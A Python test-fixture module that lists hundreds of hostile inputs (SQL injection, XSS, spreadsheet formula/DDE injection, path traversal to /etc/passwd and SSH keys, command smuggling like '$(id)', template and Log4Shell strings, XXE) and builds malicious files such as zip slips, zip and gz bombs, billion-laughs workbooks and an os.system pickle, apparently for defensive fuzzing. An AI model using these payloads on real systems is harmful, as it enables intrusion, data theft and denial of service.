"""What a hostile or careless hand types, pastes, links to, names a file or writes into one: at least 200 different inputs.

TEXTS are by kind; FILES are made when asked for, each with the name it comes under. Nothing here is aimed at anybody: hosts are
`.invalid` or `.example`, and what would run says only that it ran.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import stat
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping

SQL = (
    "' OR '1'='1", "'; DROP TABLE school; --", '"; DELETE FROM source_file; --', "1 OR 1=1", "1; ATTACH DATABASE '/tmp/x' AS x",
    "' UNION SELECT email, name FROM account --", "%' OR 1=1 --", "x' AND randomblob(1000000000) --", "$$; SELECT pg_sleep(60); --",
    "'||(SELECT version())||'", "\\'; DROP TABLE entry; --", "0x53454C454354", "100001 --", "100001; SELECT 1", "%(uid)s", ":uid", "?", "NULL",
    "'; COPY account TO PROGRAM 'id'; --", "1' AND SLEEP(30)#", "LA850' --",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.invalid/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<iframe src=https://x.invalid></iframe>", "<body onload=alert(1)>", "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "\" onfocus=alert(1) autofocus=\"", "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "<style>@import'https://x.invalid'</style>", "<link rel=stylesheet href=https://x.invalid>", "<meta http-equiv=refresh content=0;url=https://x.invalid>",
    "<form action=https://x.invalid><input name=password></form>", "<math><mtext></p><style><img src=x onerror=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)", "<!--<img src=\"--><img src=x onerror=alert(1)>", "<b>bold</b>", "</p></div><h1>Another heading</h1>", "<base href=https://x.invalid/>",
    "<object data=x></object>", "//x.invalid/x", "https://gov.uk@x.invalid/", "<plaintext>", "<table><tr><td>", "]]><script>alert(1)</script>",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:alert(1))", "![x](https://x.invalid/x.png)", "[x](https://x.invalid)", "# A heading", "**bold** _it_ ~~out~~", "`code`", "$\\frac{1}{0}$",
    ":red[red]", ":material/home:", ":smile:", "| a | b |\n|---|---|", "> quote", "- [ ] task", "[^1]: note", "<https://x.invalid>", "***", "```\ncode\n```",
    ":blue-background[x]", "---",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("https://x.invalid","x")',
    '=IMPORTXML("https://x.invalid","//a")', '=WEBSERVICE("https://x.invalid")', "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '"=1+1"', "'=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A-3+3+cmd|' /C calc'!D2", "\u200b=1+1", "\ufeff=1+1", ";=1+1", ",=1+1",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\win.ini", "\\\\x.invalid\\share\\x", "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc/passwd", "file:///etc/passwd", "~root/.ssh/id_rsa", "~nobody-of-this-name/x", "CON", "NUL.csv", "aux.csv",
    "a/../../b.csv", "./.streamlit/secrets.toml", "/dev/zero", "/proc/self/environ", ".", "..", "a\nb.csv", "-rf", "--help", "|id", "$(id)", "`id`", "; id", "name.csv;.exe",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__.__mro__}", "{__import__('os').system('id')}", "%s%s%s%s%n", "%(name)s", "{}", "{name}", "{0!r:>99999999}",
    "__import__('os').system('id')", "${jndi:ldap://x.invalid/a}", "{% include '/etc/passwd' %}", "%d", "{x:%Y}", "\\u0041", "\\x41", "$HOME", "%PATH%",
)  # fmt: skip
UNICODE = (
    "аdmin", "ｓｃｈｏｏｌ", "раypal", "School\u202egnp.exe", "\u202eloohcS", "\u2066School\u2069", "\u061cSchool", "\u200fSchool\u200e", "Sch\u200bool", "Scho\u00adol",
    "Sc\u2060hool", "\ufeffSchool", "\U000e0041\U000e0042", "e\u0301\u0301\u0301\u0301" * 20, "Z\u0351\u036b\u0343\u036a\u0302algo", "ﷺ" * 40, "ﬁnance", "İstanbul", "ſchool",
    "Ⅷ", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u2028line\u2029paragraph", "\uffff", "\ufdd0", "\ufffd", "¹²³", "K", "ß" * 9, "\u0130" * 300, "\u3164", "\u115f",
)  # fmt: skip
CONTROLS = (
    "\x00", "a\x00b", "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x08\x08\x08", "\x7f", "a\rb", "a\nb", "a\r\n\r\nb", "\x85", "\x9b31m", "\x0b\x0c", "\x1a", "\x04", "\t\t\t",
    "\x01\x02\x03", "line\u0085line",
)  # fmt: skip
NUMBERS = (
    "NaN", "nan", "Infinity", "-inf", "1e999", "-1e999", "1e-999", "-0", "-0.0", "-1", "0", "00000000", "99999999999999999999", "9" * 400, "1" * 5000, "1_000", "0x1F", "0b1", "1,000",
    "1.5", "1.", ".5", "１２３", "١٢٣", "१२३", "100001.0", "+100001", " 100001 ", "100001\n", "2147483648", "-2147483649", "9223372036854775808", "1/0", "½", "1e5", "202425.5", "999999",
    "202313", "000000",
)  # fmt: skip
HEADERS = (
    "x\r\nSet-Cookie: a=b", "x\r\nLocation: https://x.invalid", "localhost\r\nX: y", "x%0d%0aSet-Cookie:a=b", "localhost@x.invalid", "localhost:8501@x.invalid", "[::1]:99999",
    "http://[::1", "https://[bad", "https://x.invalid:99999/", "https://x.invalid:port/", "http://",
)  # fmt: skip
JSON = (
    '{"a":',
    "[" * 2_000,
    '{"a":1,"a":2}',
    '{"__proto__":{"x":1}}',
    "null",
    "true",
    "[]",
    "{}",
    '"',
    '{"$ref":"file:///etc/passwd"}',
)
QUOTES = ('"', '""', '"a', 'a"b', "a,b", 'a","b', "a\nb,c", "'", "''", ",", ";", "\t", '"\n"', "a;b;c", "a|b|c")
REGEX = (
    "(a+)+$", "(a|a)*b", ".*.*.*=", "[", "(", "*", "+", "\\", "(?P<x>", "[[:alpha:]]", "a{99999}", "(?i)x", "^", "$", "a" * 3_000 + "!", " " * 3_000 + "x",
    "," * 3_000, ":" * 2_000, "1" * 2_000 + "x", "a:1," * 900,
)  # fmt: skip
OVERSIZED = ("A" * 100_000, "Ä" * 50_000, "word " * 20_000, "\n" * 20_000, "100001\n" * 3_000, "x\n" * 2_000)
XML_TEXT = (
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "<!ENTITY % p SYSTEM 'https://x.invalid/x.dtd'> %p;", "&e;", "&#0;", "<?xml version='1.0'?>",
    "<xi:include href='/etc/passwd' parse='text'/>", "<![CDATA[x]]>", "<?php echo 1 ?>",
)  # fmt: skip

TEXTS: Mapping[str, tuple[str, ...]] = {
    "SQL": SQL, "markup": MARKUP, "Markdown": MARKDOWN, "formulas": FORMULAS, "paths": PATHS, "templates": TEMPLATES, "unicode": UNICODE, "control characters": CONTROLS,
    "numbers": NUMBERS, "headers": HEADERS, "JSON": JSON, "quotes": QUOTES, "patterns": REGEX, "oversized": OVERSIZED, "XML": XML_TEXT,
}  # fmt: skip
EVERY: tuple[str, ...] = tuple(dict.fromkeys(text for texts in TEXTS.values() for text in texts))
SHORT: tuple[str, ...] = tuple(text for text in EVERY if len(text) <= 400)

GOOD = b"LA,ESTAB,URN,PERCTOT,PPERSABS10\r\n850,2000,100001,5.1,12.2\r\n"
CONTENT_TYPES = "[Content_Types].xml"


def zipped(*members: tuple[str | zipfile.ZipInfo, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", method) as made:
        warnings.simplefilter("ignore")  # a name may stand twice
        for name, content in members:
            made.writestr(name, content)
    return out.getvalue()


def symlink(name: str, target: str) -> bytes:
    entry = zipfile.ZipInfo(name)
    entry.create_system = 3
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return zipped((entry, target.encode()))


def nested(depth: int) -> bytes:
    inner = zipped(("2023-2024_england_abs.csv", GOOD))
    for _ in range(depth):
        inner = zipped(("inner.zip", inner))
    return inner


def named_in_the_contents(names: list[bytes], content: bytes) -> bytes:
    """A zip whose table of contents gives the names, all of them to one and the same part."""
    whole = zipped(("a.csv", content))
    with zipfile.ZipFile(io.BytesIO(whole)) as made:
        (one,) = made.infolist()
    packed = whole[: whole.rindex(b"PK\x01\x02")]
    central = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, one.CRC, one.compress_size, one.file_size, len(name),
                    0, 0, 0, 0, 0, 0) + name
        for name in names
    )  # fmt: skip
    return (
        packed
        + central
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(names), len(names), len(central), len(packed), 0)
    )


def workbook(sheet: bytes, **more: bytes) -> bytes:
    """A workbook whose only sheet is the given XML; `more` are other members by name, `__` for a slash."""
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    relation = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s"/></Relationships>'
    book = b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
    members = {
        CONTENT_TYPES: types, "_rels/.rels": relation % (b"officeDocument", b"xl/workbook.xml"), "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": relation % (b"worksheet", b"worksheets/sheet1.xml"), "xl/worksheets/sheet1.xml": sheet,
        **{name.replace("__", "/"): content for name, content in more.items()},
    }  # fmt: skip
    return zipped(*members.items())


def rows(inside: bytes, *, before: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0"?>' + before + b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + inside + b"</sheetData></worksheet>"
    )  # fmt: skip


def told(text: bytes) -> bytes:
    return (
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>URN</t></is></c><c r="B1" t="inlineStr"><is><t>'
        + text
        + b"</t></is></c></row>"
    )


LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(9)
) + b"]>"  # fmt: skip
EXTERNAL = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
REMOTE = b'<!DOCTYPE x SYSTEM "https://x.invalid/x.dtd">'
N = 1 << 18  # bytes of markup that never ends: more than enough to hang what looks at every pair of places

FILES: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    # archives
    "zip slip": ("a.zip", lambda: zipped(("../../evil.csv", GOOD))),
    "zip slip, backslashes": ("a.zip", lambda: zipped(("..\\..\\evil.csv", GOOD))),
    "zip slip in the middle": ("a.zip", lambda: zipped(("a/../../evil.csv", GOOD))),
    "zip, absolute name": ("a.zip", lambda: zipped(("/tmp/evil.csv", GOOD))),
    "zip, drive letter": ("a.zip", lambda: zipped(("C:\\evil.csv", GOOD))),
    "zip, symbolic link": ("a.zip", lambda: symlink("link.csv", "/etc/passwd")),
    "zip, a name of dots": ("a.zip", lambda: zipped(("..", GOOD), ("./.", GOOD))),
    "zip, a name with control characters": ("a.zip", lambda: zipped(("a\x1b[2J\x07.csv", GOOD))),
    "zip, a name that turns round": ("a.zip", lambda: zipped(("\u202evsc.exe", GOOD))),
    "zip, a very long name": ("a.zip", lambda: zipped(("x" * 60_000 + ".csv", GOOD))),
    "zip, no name": ("a.zip", lambda: named_in_the_contents([b""], GOOD)),
    "zip, the same name twice": ("a.zip", lambda: zipped(("2023-2024_england_abs.csv", GOOD), ("2023-2024_england_abs.csv", b"x"))),
    "zip, nested once": ("a.zip", lambda: nested(1)),
    "zip, nested fifty times": ("a.zip", lambda: nested(50)),
    "zip bomb": ("a.zip", lambda: zipped(("2023-2024_england_abs.csv", b"0" * (120 << 20)))),
    "zip bomb of overlapping parts": ("a.zip", lambda: named_in_the_contents([b"%04d.csv" % at for at in range(1_000)], b"0" * (1 << 20))),
    "zip, six thousand members": ("a.zip", lambda: zipped(*((f"{at}.csv", b"") for at in range(6_000)))),
    "zip, cut off": ("a.zip", lambda: zipped(("a.csv", GOOD))[:-12]),
    "zip, its table of contents points before its start": ("a.zip", lambda: b"PK\x05\x06" + b"\0" * 4 + b"\1\0\1\0" + struct.pack("<LLH", 46, 1 << 31, 0)),
    "zip, unknown method": ("a.zip", lambda: zipped(("a.csv", GOOD), method=zipfile.ZIP_STORED).replace(b"PK\x01\x02\x14\x03\x14\0\0\0\0\0", b"PK\x01\x02\x14\x03\x14\0\0\0\x63\0")),
    "zip, a wrong checksum": ("a.zip", lambda: zipped(("2023-2024_england_abs.csv", GOOD), method=zipfile.ZIP_STORED).replace(b"850,2000", b"850,2001", 1)),
    "zip behind a program": ("a.zip", lambda: b"MZ\x90\0" * 100 + zipped(("a.csv", GOOD))),
    "gz bomb": ("a.csv.gz", lambda: gzip.compress(b"0" * (90 << 20))),
    "gz in gz": ("a.csv.gz", lambda: gzip.compress(gzip.compress(GOOD))),
    "gz, cut off": ("a.csv.gz", lambda: gzip.compress(GOOD)[:-6]),
    "gz, a name inside that leads away": ("a.csv.gz", lambda: b"\x1f\x8b\x08\x08\0\0\0\0\0\x03../../evil\0" + zlib.compress(GOOD)[2:-4]),
    # XML inside workbooks
    "xlsx, a billion laughs": ("a.xlsx", lambda: workbook(rows(told(b"&j;"), before=LAUGHS))),
    "xlsx, an external entity": ("a.xlsx", lambda: workbook(rows(told(b"&e;"), before=EXTERNAL))),
    "xlsx, a remote DTD": ("a.xlsx", lambda: workbook(rows(told(b"x"), before=REMOTE))),
    "xlsx, entities in shared texts": ("a.xlsx", lambda: workbook(rows(b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), xl__sharedStrings_xml=EXTERNAL)),
    "xlsx, cells that never end": ("a.xlsx", lambda: workbook(rows(b"<c " * (N // 3)))),
    "xlsx, cells whose place never ends": ("a.xlsx", lambda: workbook(rows(b'<c r="' * (N // 6)))),
    "xlsx, texts that never end": ("a.xlsx", lambda: workbook(rows(told(b"x")), **{"xl__sharedStrings.xml": b"<sst>" + b"<si>" * (N // 4)})),
    "xlsx, marks of texts that never end": ("a.xlsx", lambda: workbook(rows(b' t="s"' * (N // 6)), **{"xl__sharedStrings.xml": b"<sst><si>" + b"x" * 70_000_000 + b"</si></sst>"})),
    "xlsx, elements within elements": ("a.xlsx", lambda: workbook(rows(b"<x>" * 100_000))),
    "xlsx, a member outside": ("a.xlsx", lambda: zipped((CONTENT_TYPES, b"<x/>"), ("../../evil.xml", b"x"))),
    "xlsx, a relation to a remote sheet": ("a.xlsx", lambda: workbook(rows(told(b"x")), **{"xl___rels__workbook.xml.rels": b'<Relationships><Relationship Id="rId1" Target="https://x.invalid/s.xml" TargetMode="External"/></Relationships>'})),
    "xlsx, formulas": ("a.xlsx", lambda: workbook(rows(b'<row r="1"><c r="A1"><f>WEBSERVICE("https://x.invalid")</f><v>1</v></c></row>'))),
    "xlsx, a date far out": ("a.xlsx", lambda: workbook(rows(b'<row r="1"><c r="A1" t="d"><v>99999-99-99</v></c><c r="B1"><v>1e308</v></c></row>'))),
    "xlsx, control characters by number": ("a.xlsx", lambda: workbook(rows(told(b"&#0;&#27;[2J&#x202e;")))),
    "ods, rows that never end": ("a.ods", lambda: zipped(("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", b"<table:table-row " * (N // 17)))),
    "ods, repeated rows that never end": ("a.ods", lambda: zipped(("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", b'<table:table-row number-rows-repeated="99999">' * (N // 45)))),
    "ods, cells that never end": ("a.ods", lambda: zipped(("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", b"<table:table-cell office:value-type=" * (N // 36)))),
    "xls, a header and nothing": ("a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2_000),
    "xls, sectors in a ring": ("a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + b"\x3e\0\x03\0\xfe\xff\x09\0\x06\0" + b"\0" * 10 + b"\x01\0\0\0\0\0\0\0\0\x10\0\0" + b"\0" * 452 + b"\0\0\0\0" * 128),
    "xlsx that is html": ("a.xlsx", lambda: b"<html><script>alert(1)</script></html>"),
    "csv that is html": ("2023-2024_england_abs.csv", lambda: b"<html><body>Request blocked</body></html>"),
    # text
    "csv, formulas in every cell": ("2023-2024_england_abs.csv", lambda: GOOD + b"=1+1,=1+1,=1+1,=1+1,=1+1\r\n"),
    "csv, zeros": ("2023-2024_england_abs.csv", lambda: GOOD.replace(b"5.1", b"5\x00.1")),
    "csv, nothing but zeros": ("a.csv", lambda: b"\0" * 4_000),
    "csv, an open quote": ("2023-2024_england_abs.csv", lambda: GOOD + b'850,2001,"100002,5,1\r\n' * 50),
    "csv, a million quotes": ("2023-2024_england_abs.csv", lambda: GOOD + b'"' * 1_000_001),
    "csv, commas": ("2023-2024_england_abs.csv", lambda: GOOD + b"," * 1_000_000),
    "csv, many lines of nothing": ("2023-2024_england_abs.csv", lambda: GOOD + b"\n" * 200_000),
    "csv, two hundred thousand columns": ("2023-2024_england_abs.csv", lambda: b"URN," * 200_000 + b"\n" + b"1," * 200_000),
    "csv, UTF-16": ("2023-2024_england_abs.csv", lambda: GOOD.decode().encode("utf-16")),
    "csv, UTF-7": ("2023-2024_england_abs.csv", lambda: GOOD + b"+ADw-script+AD4-,1,100002,1,1\r\n"),
    "csv, broken UTF-8": ("2023-2024_england_abs.csv", lambda: GOOD + b"\xc3\x28,\xff,\xfe,\xed\xa0\x80,1\r\n"),
    "csv, numbers that are none": ("2023-2024_england_abs.csv", lambda: GOOD + "".join(f"850,2001,{100002 + at},{one},1\r\n" for at, one in enumerate(("NaN", "1e999", "-0", "-5", "１２", "0x10", "1_0", "inf", "9" * 400))).encode()),
    "csv, schools that are none": ("2023-2024_england_abs.csv", lambda: GOOD + "".join(f"850,2001,{one},1,1\r\n" for one in ("-100001", "1e5", "１０００１０", "100001.5", "9" * 40, "0", "''", "=100001", "NaN")).encode()),
    "csv, only separators": ("a.csv", lambda: b",;|\t" * 5_000),
    "csv, a cell of ten million letters": ("2023-2024_england_abs.csv", lambda: GOOD + b"850,2001,100002," + b"9" * 10_000_000 + b",1\r\n"),
    "empty": ("a.csv", lambda: b""),
    "one byte": ("a.csv", lambda: b"\xff"),
    "json, brackets within brackets": ("a.json", lambda: b'{"type":"Topology","objects":' + b"[" * 200_000),
    "json, an endless number": ("a.json", lambda: b'{"type":"Topology","arcs":[[[' + b"9" * 6_000 + b",1]]]}"),
    "json, numbers that are none": ("a.json", lambda: b'{"type":"Topology","transform":{"scale":[NaN,1e999],"translate":[-Infinity,0]},"arcs":[[[0,0],[1e308,1e308]]],"objects":{"x":{"type":"GeometryCollection","geometries":[{"type":"Polygon","arcs":[[0]],"properties":{}}]}}}'),
    "json, arcs that are not there": ("a.json", lambda: json.dumps({"type": "Topology", "arcs": [], "objects": {"x": {"type": "GeometryCollection", "geometries": [{"type": "Polygon", "arcs": [[99999999, -99999999]], "properties": {"LAD24CD": "E1", "LAD24NM": "x"}}]}}}).encode()),
    "json, a name twice": ("a.json", lambda: b'{"type":"Topology","type":"x","__proto__":{}}'),
    "a program": ("a.csv", lambda: b"\x7fELF" + bytes(range(256)) * 20),
    "a picture that is a page": ("a.csv", lambda: base64.b64decode("R0lGODlhAQABAAAAACw=") + b"/*<script>alert(1)</script>*/"),
    "pickled": ("a.csv", lambda: b"\x80\x04\x95\x1c\0\0\0\0\0\0\0\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."),
    "parquet": ("a.csv", lambda: b"PAR1" + b"\0" * 400 + b"PAR1"),
    "arrow": ("a.csv", lambda: b"ARROW1\0\0" + b"\xff" * 400),
}  # fmt: skip


def rotated(texts: tuple[str, ...], runs: int, params: int, *, start: int = 0) -> Iterator[tuple[str, ...]]:
    """`runs` times one input for each of `params` places, a different one each time and at each place."""
    for run in range(runs):
        yield tuple(texts[(start + run + place * 37) % len(texts)] for place in range(params))
